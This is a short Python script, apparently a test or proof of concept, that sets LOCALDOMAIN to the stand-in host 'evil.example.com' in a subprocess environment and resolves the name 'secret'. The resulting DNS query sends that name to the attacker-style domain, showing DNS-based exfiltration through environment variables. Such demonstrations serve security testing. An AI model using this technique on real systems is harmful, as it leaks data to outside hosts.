import os, subprocess, sys

own = dict(os.environ, LOCALDOMAIN="evil.example.com", RES_OPTIONS="ndots:3")
program = "import socket; socket.getaddrinfo('secret', 80)"
subprocess.run([sys.executable, "-c", program], env=own, stderr=subprocess.DEVNULL)
